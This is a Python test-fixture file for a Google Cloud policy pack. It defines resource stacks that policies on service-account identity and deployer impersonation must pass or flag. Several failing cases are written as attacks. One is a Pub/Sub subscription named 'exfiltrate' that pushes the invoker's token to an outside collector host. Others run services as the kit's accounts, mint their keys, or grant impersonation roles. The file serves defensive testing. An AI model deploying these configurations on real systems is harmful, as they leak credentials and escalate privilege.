"""Pass/fail fixtures for the identity items of issue 36 ("Trust by construction"), in the
pattern of round_two_cases.py; test_policy_cases.py runs them with the others.

- Item 3, the kit's identities used only by the kit (dedup-kit-identities-kit-only): the
  functions accept any OIDC token of the invoker or the watchdog's account, so no resource
  but the kit's own may run as, push with or mint a token of either, whatever its type
  (one the pack has never seen included).
- Item 4, deployers: a deployer listed in `deployers` must not be impersonable by anyone
  else (judged by the two policies that read the setting, for their own entry), and a
  Google-managed service agent is refused as a deployer (a setting error).

Run against the pack before issue 36, no mandatory policy flagged any failing case here but
these: a workflow or another function running as the watchdog
(dedup-watchdog-own-service-account), a Scheduler job's oauthToken (scheduler-job-oidc-auth),
and the project-wide impersonation grants (iam-no-project-level-service-account-
impersonation, which a stack may turn down).
"""

from __future__ import annotations

from typing import Any

from policies import gcp
from policies.model import Resource
from tests.policies.bypass_cases import custom_role
from tests.policies.cases import Case, delivering_watchdog, member, stack_case
from tests.policies.fixtures import (
    FUNCTION_URL,
    INVOKER_SA,
    PROJECT,
    PROJECT_IAM_MEMBER,
    REGION,
    SA_IAM_MEMBER,
    WATCHDOG_SA,
    kit_stack,
    proxy_watchdog_stack,
    replace_named,
    res,
    watchdog_stack,
)

GROUP = "group:ops@example.com"
TEAM_SA = f"report-service@{PROJECT}.iam.gserviceaccount.com"
DEPLOYER_SA = f"pulumi-deployer@{PROJECT}.iam.gserviceaccount.com"
DEPLOYER = f"serviceAccount:{DEPLOYER_SA}"
SUBSCRIPTION = "gcp:pubsub/subscription:Subscription"
WORKFLOW = gcp.WORKFLOWS_WORKFLOW
RUN2 = gcp.CLOUD_RUN_V2_SERVICE
EVENTARC_TRIGGER = "gcp:eventarc/trigger:Trigger"
SA_KEY = "gcp:serviceaccount/key:Key"
MADE_UP = "acme:index/thing:Thing"
TASK_ACCOUNT = "serviceConfig.environmentVariables.DEDUP_WATCH_TASK_ACCOUNT"
WATCHDOG_FN = "watchdog-function"

# The attacks of item 3 (each added to a stack of the kit).
PUSH_AS_INVOKER = res(SUBSCRIPTION, "exfiltrate", {
    "project": PROJECT, "topic": "orders", "name": "orders-push",
    "pushConfig": {"pushEndpoint": "https://collector.example.net/hook",
                   "oidcToken": {"serviceAccountEmail": INVOKER_SA,
                                 "audience": FUNCTION_URL}}})
SERVICE_AS_INVOKER = res(RUN2, "team-service", {
    "project": PROJECT, "location": REGION, "name": "team-service",
    "ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY",
    "template": {"serviceAccount": INVOKER_SA,
                 "containers": [{"image": "europe-docker.pkg.dev/acme/app:1"}]}})
WORKFLOW_AS_WATCHDOG = res(WORKFLOW, "team-workflow", {
    "project": PROJECT, "region": REGION, "name": "team-workflow",
    "serviceAccount": f"projects/-/serviceAccounts/{WATCHDOG_SA}",
    "sourceContents": "main:\n  steps: []\n"})
THING_AS_INVOKER = res(MADE_UP, "thing", {"identity": INVOKER_SA.upper()})


def _with(stack: list[Resource], *extra: Resource) -> list[Resource]:
    return [*stack, *extra]


def _team_service(account: str) -> Resource:
    return res(RUN2, "team-service", {
        **SERVICE_AS_INVOKER.props, "template": {"serviceAccount": account}})


def _queue_oidc(account: str) -> list[Resource]:
    """A delivering watchdog whose deliveries queue sets an OIDC override of `account`."""
    stack = delivering_watchdog()
    return replace_named(stack, "watchdog-deliveries", "httpTarget",
                         {"oidcToken": {"serviceAccountEmail": account}})


def on_deployer(role: str, who: str, name: str = "on-deployer") -> Resource:
    return res(SA_IAM_MEMBER, name, {
        "serviceAccountId": f"projects/{PROJECT}/serviceAccounts/{DEPLOYER_SA}", "role": role,
        "member": who})


def _listed(*members: str) -> dict[str, Any]:
    return {"deployers": list(members)}


def _deployer_cases() -> list[Case]:
    """The same for both policies reading `deployers`: each protects the deployers its own
    entry lists."""
    listed = _listed(DEPLOYER)
    return [
        stack_case("deployer-listed-nobody-impersonates-it", kit_stack(), False, listed),
        stack_case("deployer-may-mint-its-own-tokens", _with(kit_stack(), on_deployer(
            "roles/iam.serviceAccountTokenCreator", DEPLOYER)), False, listed),
        stack_case("token-creator-on-an-unlisted-account", _with(kit_stack(), on_deployer(
            "roles/iam.serviceAccountTokenCreator", GROUP)), False),
        stack_case("impersonation-role-in-another-project", _with(kit_stack(), res(
            PROJECT_IAM_MEMBER, "elsewhere", {"project": "acme-other", "member": GROUP,
                                              "role": "roles/iam.serviceAccountUser"})),
            False, listed),
        stack_case("group-mints-the-deployers-tokens", _with(kit_stack(), on_deployer(
            "roles/iam.serviceAccountTokenCreator", GROUP)), True, listed),
        stack_case("another-account-acts-as-the-deployer", _with(kit_stack(), on_deployer(
            "roles/iam.serviceAccountUser", f"serviceAccount:{TEAM_SA}")), True, listed),
        stack_case("key-admin-on-the-deployer", _with(kit_stack(), on_deployer(
            "roles/iam.serviceAccountKeyAdmin", "user:alice@example.com")), True, listed),
        stack_case("custom-implicit-delegation-on-the-deployer", _with(
            kit_stack(), custom_role(["iam.serviceAccounts.implicitDelegation"]),
            on_deployer(f"projects/{PROJECT}/roles/ops_helper", GROUP)), True, listed),
        stack_case("unknown-role-on-the-deployer", _with(kit_stack(), on_deployer(
            "roles/acme.mystery", GROUP)), True, listed),
        stack_case("token-creator-on-the-deployers-project", _with(kit_stack(), res(
            PROJECT_IAM_MEMBER, "project-token-creator",
            member("roles/iam.serviceAccountTokenCreator", GROUP))), True, listed),
        stack_case("project-iam-admin-on-the-deployers-project", _with(kit_stack(), res(
            PROJECT_IAM_MEMBER, "project-iam-admin",
            member("roles/resourcemanager.projectIamAdmin", GROUP))), True, listed),
        stack_case("a-service-agent-listed", kit_stack(), True, _listed(
            "serviceAccount:service-123456789012@gcp-sa-cloudscheduler.iam.gserviceaccount.com")),
        stack_case("the-google-apis-service-agent-listed", kit_stack(), True, _listed(
            "serviceAccount:123456789012@cloudservices.gserviceaccount.com")),
    ]


TRUST_CASES: dict[str, list[Case]] = {
    # --- 3: the kit's identities used only by the kit -----------------------------------
    "dedup-kit-identities-kit-only": [
        stack_case("kit-scheduler-jobs-send-the-invokers-tokens", kit_stack(), False),
        stack_case("kit-watchdog-function", watchdog_stack(), False),
        stack_case("kit-proxy-and-watchdog", proxy_watchdog_stack(), False),
        stack_case("watchdog-tasks-carry-its-own-token", replace_named(
            delivering_watchdog(), WATCHDOG_FN, TASK_ACCOUNT, WATCHDOG_SA), False),
        stack_case("deliveries-queue-oidc-of-the-watchdog", _queue_oidc(WATCHDOG_SA), False),
        stack_case("team-service-runs-as-its-own-account",
                   _with(kit_stack(), _team_service(TEAM_SA)), False),
        stack_case("grants-to-and-on-the-invoker", _with(kit_stack(), res(
            SA_IAM_MEMBER, "on-invoker", {
                "serviceAccountId": f"projects/{PROJECT}/serviceAccounts/{INVOKER_SA}",
                "role": "roles/iam.serviceAccountUser", "member": GROUP})), False),
        stack_case("made-up-type-naming-another-account",
                   _with(kit_stack(), res(MADE_UP, "thing", {"identity": TEAM_SA})), False),
        stack_case("pubsub-push-with-the-invokers-token",
                   _with(kit_stack(), PUSH_AS_INVOKER), True),
        stack_case("cloud-run-service-runs-as-the-invoker",
                   _with(kit_stack(), SERVICE_AS_INVOKER), True),
        stack_case("workflow-runs-as-the-watchdog",
                   _with(watchdog_stack(), WORKFLOW_AS_WATCHDOG), True),
        stack_case("made-up-type-with-the-invoker-as-identity",
                   _with(kit_stack(), THING_AS_INVOKER), True),
        stack_case("made-up-type-naming-the-watchdog-as-a-member-form", _with(
            watchdog_stack(), res(MADE_UP, "thing", {
                "runAs": [{"principal": f"serviceAccount:{WATCHDOG_SA}"}]})), True),
        stack_case("eventarc-trigger-as-the-watchdog", _with(watchdog_stack(), res(
            EVENTARC_TRIGGER, "on-upload", {"location": REGION, "serviceAccount": WATCHDOG_SA,
                                            "destination": {"cloudRunService": {
                                                "service": "team-service"}}})), True),
        stack_case("key-of-the-invoker", _with(kit_stack(), res(SA_KEY, "invoker-key", {
            "serviceAccountId": INVOKER_SA})), True),
        stack_case("scheduler-job-oauth-token-of-the-invoker", replace_named(
            kit_stack(), "job-nightly-export", "httpTarget.oauthToken",
            {"serviceAccountEmail": INVOKER_SA}), True),
        stack_case("watchdog-tasks-carry-the-invokers-token", replace_named(
            delivering_watchdog(), WATCHDOG_FN, TASK_ACCOUNT, INVOKER_SA), True),
        stack_case("deliveries-queue-oidc-of-the-invoker", _queue_oidc(INVOKER_SA), True),
        stack_case("team-function-runs-as-the-watchdog", _with(watchdog_stack(), res(
            gcp.FUNCTION_V2, "team-function", {
                "name": "team-function", "location": REGION,
                "serviceConfig": {"serviceAccountEmail": WATCHDOG_SA}})), True),
    ],
    # --- 4: deployers ---------------------------------------------------------------------
    "iam-no-role-admin-or-build-create": _deployer_cases(),
    "dedup-accounts-act-as": _deployer_cases(),
}
